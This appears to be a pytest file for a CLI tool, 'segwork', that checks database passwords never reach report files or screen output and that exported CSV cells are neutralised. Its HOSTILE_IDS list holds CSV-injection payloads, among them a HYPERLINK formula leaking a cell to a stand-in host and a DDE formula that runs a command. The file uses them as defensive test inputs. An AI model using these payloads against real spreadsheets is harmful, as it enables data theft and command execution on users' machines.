@@ -1,0 +1,297 @@
+"""Bad values, secrets and hostile files (issue 13): nothing leaks, nothing hangs, no bad value
+passes quietly.
+
+Each class of the issue has a test here or in the module named beside it:
+
+- secrets (13.1): here, a password with ``@ # / : & %`` and a non-ASCII letter from ``${VAR}``,
+  through ``segwork run`` and ``segwork validate``: a database that is not there, one that
+  refuses the password, and a successful run; every file under the reports folder and the CLI's
+  output are scanned for the secret in each form it could be written in;
+- files segwork writes (13.7): ``segwork assign`` with hostile ids, here;
+- legacy encodings, bad values, config mistakes, the YAML alias bomb: tests/test_export_shapes.py,
+  tests/test_config.py, tests/test_preflight.py; the variants real exports and editors make that
+  those do not cover are here, each checked through ``segwork validate`` for a message that names
+  the table, column or key and the fix, without a traceback;
+- interrupted runs (13.6): tests/test_pipeline.py.
+"""
+
+from __future__ import annotations
+
+import csv
+import html
+import json
+import os
+import socket
+import urllib.parse
+from pathlib import Path
+
+import nbformat
+import pandas as pd
+import pytest
+import yaml
+from nbformat.v4 import new_code_cell, new_markdown_cell
+from typer.testing import CliRunner
+
+from segwork.cli import app
+from tests.test_pipeline import _notebook, _params_cell
+
+SECRET_ENV = "SEGWORK_HOSTILE_PW"
+# As a password manager makes them: URL delimiters, '&' (HTML-escaped), '%' and a Czech letter
+# (JSON-escaped as \u017d); never URL-encoded by the user, as the README's ${VAR} pattern invites.
+SECRET = "Tr0ub@dor#3/x:y&50%Ž"
+WRONG_SECRET = "n0t-it@all#/:Ř"
+
+
+def secret_forms(secret: str) -> set[str]:
+    """Every way a secret could be written into a file or onto the screen."""
+    return {
+        secret,
+        urllib.parse.quote(secret, safe=""),
+        urllib.parse.quote(secret),
+        urllib.parse.quote_plus(secret),
+        json.dumps(secret)[1:-1],
+        json.dumps(secret, ensure_ascii=False)[1:-1],
+        html.escape(secret),
+        html.escape(secret, quote=False),
+    }
+
+
+def assert_no_secret(folder: Path, texts: list[str], secrets: list[str]) -> int:
+    """No form of any secret in any file under ``folder`` or in ``texts``; returns the files."""
+    files = [p for p in folder.rglob("*") if p.is_file()]
+    for secret in secrets:
+        for form in secret_forms(secret):
+            needle = form.encode()
+            for path in files:
+                assert needle not in path.read_bytes(), (form, path)
+            for text in texts:
+                assert form not in text, (form, text)
+    return len(files)
+
+
+def _closed_port() -> int:
+    """A port of 127.0.0.1 on which nothing listens (bound, then released)."""
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def _invoke(*args: str):
+    """``segwork ARGS`` in this process; stdout and stderr captured separately."""
+    return CliRunner().invoke(app, list(args), catch_exceptions=False)
+
+
+def _cli_texts(result) -> list[str]:
+    return [result.stdout, result.stderr]
+
+
+LOAD_AND_PRINT = (
+    "from segwork.context import RunContext\n"
+    "ctx = RunContext.open(config_path, run_dir)\n"
+    "# what an analyst debugging a connection prints\n"
+    "for table, src in ctx.config.sources.items():\n"
+    "    if src.url:\n"
+    "        print(table, 'from', src.resolved_url())\n"
+    "sink = ctx.config.outputs.memberships\n"
+    "if sink is not None:\n"
+    "    print('memberships to', sink.resolved_url())\n"
+    "tables = ctx.tables\n"
+    "print('customers:', len(tables.customers))\n"
+)
+
+WRITE_MEMBERS = (
+    "import pandas as pd\n"
+    "ids = ctx.tables.customers['customer_id'].astype(str).tolist()\n"
+    "ctx.write_artifact('segment_membership', pd.DataFrame({'customer_id': ids, "
+    "'vip': [i % 2 == 0 for i in range(len(ids))]}))\n"
+)
+
+
+def _secret_project(root: Path, *, orders: dict, outputs: dict | None = None) -> Path:
+    """A one-notebook project: it prints the URLs the config resolves, reads the tables and
+    writes a segment_membership artifact; customers from a file, orders as given."""
+    nbdir = root / "notebooks"
+    nbdir.mkdir(parents=True)
+    nb = _notebook(
+        [
+            new_markdown_cell("# Load the CRM"),
+            _params_cell('config_path = ""\nrun_dir = ""'),
+            new_code_cell(LOAD_AND_PRINT),
+            new_code_cell(WRITE_MEMBERS),
+        ]
+    )
+    nbformat.write(nb, nbdir / "01_load.ipynb")
+    (root / "customers.csv").write_text("customer_id\nc1\nc2\nc3\n", encoding="utf-8")
+    (root / "orders.csv").write_text(
+        "order_id,customer_id,order_date,amount\no1,c1,2026-01-02,10\no2,c2,2026-01-03,5\n",
+        encoding="utf-8",
+    )
+    cfg = {
+        "name": "Secret test",
+        "analysis_date": "2026-01-31",
+        "sources": {"customers": {"path": "customers.csv"}, "orders": orders},
+        "notebooks_dir": "notebooks",
+        "reports_dir": "reports",
+    }
+    if outputs is not None:
+        cfg["outputs"] = outputs
+    path = root / "config.yaml"
+    path.write_text(yaml.safe_dump(cfg, allow_unicode=True), encoding="utf-8")
+    return path
+
+
+def _pg_url(port: int, database: str = "crm", user: str = "hostile") -> str:
+    return f"postgresql://{user}:${{{SECRET_ENV}}}@127.0.0.1:{port}/{database}"
+
+
+def test_a_secret_reaches_no_file_and_no_screen_when_the_database_is_not_there(
+    tmp_path, monkeypatch
+) -> None:
+    monkeypatch.setenv(SECRET_ENV, SECRET)
+    port = _closed_port()
+    config = _secret_project(tmp_path, orders={"url": _pg_url(port), "table": "orders"})
+    cwd = os.getcwd()
+    os.chdir(tmp_path)  # the CLI's default paths are relative to the working directory
+    try:
+        validated = _invoke("validate", "--config", str(config))
+        ran = _invoke("run", "--config", str(config))
+    finally:
+        os.chdir(cwd)
+
+    assert validated.exit_code == 2, validated.output
+    assert "sources.orders" in validated.stderr and "Connection refused" in validated.stderr
+    assert f"postgresql://hostile:***@127.0.0.1:{port}/crm" in validated.stderr
+    assert ran.exit_code == 1, ran.output
+    assert "01_load FAILED" in ran.stderr and "sources.orders" in ran.stderr
+
+    run_dir = next(p for p in (tmp_path / "reports" / "runs").iterdir() if p.is_dir())
+    record = json.loads((run_dir / "run.json").read_text(encoding="utf-8"))
+    error = record["notebooks"][0]["error"]
+    assert record["status"] == "failed" and "Connection refused" in error["evalue"]
+    nb = nbformat.read(run_dir / "notebooks" / "01_load.ipynb", as_version=4)
+    printed = "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))
+    assert f"orders from postgresql://hostile:***@127.0.0.1:{port}/crm" in printed
+    page = (run_dir / "01_load.html").read_text(encoding="utf-8")
+    assert "Connection refused" in page and "hostile:***@" in page
+    n = assert_no_secret(tmp_path / "reports", _cli_texts(validated) + _cli_texts(ran), [SECRET])
+    assert n >= 6  # run.json, two index pages, the run's page, notebook, report page
+
+
+# --------------------------------------------------------------------------------------------
+# A server that is there: a successful run and one whose password it refuses
+
+
+@pytest.fixture(scope="module")
+def pg_hostile():
+    """A PostgreSQL server with a role 'hostile' whose password is SECRET, owning database crm."""
+    import sqlalchemy as sa
+
+    from segwork import warehouse
+    from tests import pg_server
+
+    try:
+        server = pg_server.start()
+    except FileNotFoundError as e:  # a failure, not a skip: a green run must have run these
+        pytest.fail(
+            f"{e}. Fix: make system-deps installs PostgreSQL, or leave these tests out with "
+            "make test PYTEST_ARGS='-m \"not postgres\"'"
+        )
+    eng = warehouse.engine(server.resolved_url())
+    quoted = SECRET.replace("'", "''")
+    with eng.connect().execution_options(isolation_level="AUTOCOMMIT") as conn:
+        conn.execute(sa.text(f"CREATE ROLE hostile LOGIN PASSWORD '{quoted}'"))
+        conn.execute(sa.text("CREATE DATABASE crm OWNER hostile"))
+    eng.dispose()
+    yield server
+    server.stop()
+
+
+@pytest.mark.postgres
+def test_a_secret_reaches_no_file_and_no_screen_in_a_good_and_a_refused_run(
+    pg_hostile, tmp_path, monkeypatch
+) -> None:
+    import sqlalchemy as sa
+
+    from segwork import warehouse
+
+    url = _pg_url(pg_hostile.port)
+    config = _secret_project(
+        tmp_path,
+        orders={"path": "orders.csv"},
+        outputs={"memberships": {"url": url, "table": "segment_membership"}},
+    )
+    monkeypatch.setenv(SECRET_ENV, SECRET)
+    cwd = os.getcwd()
+    os.chdir(tmp_path)
+    try:
+        good = _invoke("run", "--config", str(config))
+        monkeypatch.setenv(SECRET_ENV, WRONG_SECRET)
+        refused = _invoke("run", "--config", str(config))
+    finally:
+        os.chdir(cwd)
+
+    assert good.exit_code == 0, good.output
+    assert refused.exit_code == 1, refused.output
+    assert "password authentication failed" in refused.stderr
+    encoded = urllib.parse.quote(SECRET, safe="")
+    eng = warehouse.engine(url.replace("${" + SECRET_ENV + "}", encoded))
+    with eng.connect() as conn:
+        rows = conn.execute(sa.text("SELECT count(*) FROM segment_membership")).scalar()
+    eng.dispose()
+    assert rows == 2  # c1 and c3 are 'vip'; written by the good run, kept by the refused one
+
+    runs = sorted(p for p in (tmp_path / "reports" / "runs").iterdir() if p.is_dir())
+    records = [json.loads((r / "run.json").read_text(encoding="utf-8")) for r in runs]
+    assert [r["status"] for r in records] == ["succeeded", "failed"]
+    assert "password authentication failed" in records[1]["outputs"][0]["error"]
+    nb = nbformat.read(runs[0] / "notebooks" / "01_load.ipynb", as_version=4)
+    printed = "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))
+    assert f"memberships to postgresql://hostile:***@127.0.0.1:{pg_hostile.port}/crm" in printed
+    texts = _cli_texts(good) + _cli_texts(refused)
+    assert assert_no_secret(tmp_path / "reports", texts, [SECRET, WRONG_SECRET]) >= 10
+
+
+# --------------------------------------------------------------------------------------------
+# Every file segwork writes is safe to open (13.7): segwork assign
+
+HOSTILE_IDS = [
+    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
+    "+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
+
+
+def test_segwork_assign_neutralises_formula_cells(tmp_path) -> None:
+    from segwork.clusters import fit_personas
+    from tests.test_clusters import simulate_survey
+
+    resp, cat, _ = simulate_survey(3, n=300, seed=5)
+    fitted = fit_personas(
+        resp, cat, k=3, n_bootstrap=2, names={0: "=1+2 fans", 1: "@risk", 2: "Plain"}
+    )
+    model = fitted.save(tmp_path / "personas.skops")
+    new = resp.head(len(HOSTILE_IDS) + 1).copy()
+    new["customer_id"] = [*HOSTILE_IDS, "c-ordinary"]
+    inp = tmp_path / "new.csv"
+    new.to_csv(inp, index=False, quoting=csv.QUOTE_NONNUMERIC)  # keeps the lone \r
+    out = tmp_path / "assigned.csv"
+    result = _invoke("assign", "--model", str(model), "--input", str(inp), "--output", str(out))
+    assert result.exit_code == 0, result.output
+
+    got = pd.read_csv(out, dtype=str, keep_default_na=False)
+    assert list(got.columns) == ["customer_id", "cluster", "persona", "status"]
+    assert got["customer_id"].tolist() == ["'" + i for i in HOSTILE_IDS] + ["c-ordinary"]
+    cells = [v for col in got.columns for v in got[col]]
+    assert not [v for v in cells if v.startswith(FORMULA_START)]
+    assert {"'=1+2 fans", "'@risk"} & set(got["persona"])  # names neutralised, not dropped
+    expected = fitted.assign(new)
+    assert got["cluster"].astype(int).tolist() == expected.astype(int).tolist()
+
+    parquet = tmp_path / "assigned.parquet"  # for programs: the values as they are
+    _invoke("assign", "--model", str(model), "--input", str(inp), "--output", str(parquet))
+    assert pd.read_parquet(parquet)["customer_id"].tolist() == [*HOSTILE_IDS, "c-ordinary"]
